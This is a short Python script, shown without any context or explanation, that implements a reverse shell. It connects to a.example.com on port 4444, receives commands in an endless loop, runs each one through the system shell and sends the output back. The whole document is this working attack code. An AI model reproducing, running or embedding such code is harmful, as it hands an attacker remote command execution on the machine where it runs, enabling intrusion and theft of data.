import socket, subprocess
s = socket.create_connection(("a.example.com", 4444))
while True:
    command = s.recv(1024).decode()
    s.send(subprocess.check_output(command, shell=True))
